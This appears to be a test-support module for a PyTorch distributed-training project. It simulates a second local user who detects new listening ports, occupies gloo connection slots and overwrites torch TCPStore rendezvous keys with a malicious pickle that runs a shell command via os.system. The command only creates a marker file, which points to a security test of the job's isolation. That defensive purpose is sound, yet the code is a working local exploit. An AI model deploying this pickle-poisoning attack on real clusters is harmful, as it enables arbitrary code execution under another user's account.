"""Another user of the machine, who wants to run commands as the user whose training job starts.

`python -m tests.support.job_stranger USER MARKER` gives up all rights but those of `USER`. From then on it connects to
every port that somebody begins to listen at: with the first bytes of gloo, which name a process, and as a client of
torch's store, in which it replaces each state of a rendezvous by a pickle that creates the file `MARKER`. It ends when
its input closes.
"""

import os
import pickle
import select
import socket
import struct
import sys
import threading
from base64 import b64encode
from contextlib import suppress
from datetime import timedelta
from pathlib import Path

from torch.distributed import TCPStore  # type: ignore[attr-defined]

LISTENING = "0A"
RENDEZVOUS = "torch.rendezvous."
STORE_S = 2.0
CONNECT_S = 1.0


class Payload:
    """Runs a command in the process that unpickles it."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (f"touch {self.marker}",)


def listening() -> set[tuple[str, int]]:
    """Address, as the kernel writes it, and port of whatever listens on this machine."""
    ends = set()
    for table in ("tcp", "tcp6"):
        for line in Path("/proc/net", table).read_text().splitlines()[1:]:
            row = line.split()
            if row[3] == LISTENING:
                address, _, port = row[1].partition(":")
                ends.add((address, int(port, 16)))
    return ends


def poison_store(port: int, marker: str) -> None:
    """Write the pickle in the place of every rendezvous's state, if a store of torch's answers."""
    with suppress(RuntimeError):
        store = TCPStore(
            "127.0.0.1",
            port,
            is_master=False,
            wait_for_workers=False,
            timeout=timedelta(seconds=STORE_S),
        )
        for key in store.list_keys():
            if key.startswith(RENDEZVOUS):
                store.set(key, b64encode(pickle.dumps(Payload(marker))).decode())


def take_places(port: int) -> list[socket.socket]:
    """Connect as each of the first processes of a group, and keep the connections open."""
    connections = []
    for number in range(4):
        with suppress(OSError):
            # Not `create_connection`, which imports an encoding that this user may not read.
            connection = socket.socket()
            connections.append(connection)
            connection.settimeout(CONNECT_S)
            connection.connect(("127.0.0.1", port))
            connection.sendall(struct.pack("<q", number))
    return connections


def main(user: int, marker: str) -> None:
    """Become somebody else, and attack each new port until the input closes."""
    os.setgroups([])
    os.setgid(user)
    os.setuid(user)
    known = listening()
    connections = list[socket.socket]()
    print("ready", flush=True)
    while not select.select([sys.stdin], [], [], 0.0)[0]:
        for end in listening() - known:
            known.add(end)
            _, port = end
            connections += take_places(port)
            # It takes seconds where something else than a store listens.
            threading.Thread(target=poison_store, args=(port, marker), daemon=True).start()
    os._exit(0)


if __name__ == "__main__":
    main(int(sys.argv[1]), sys.argv[2])
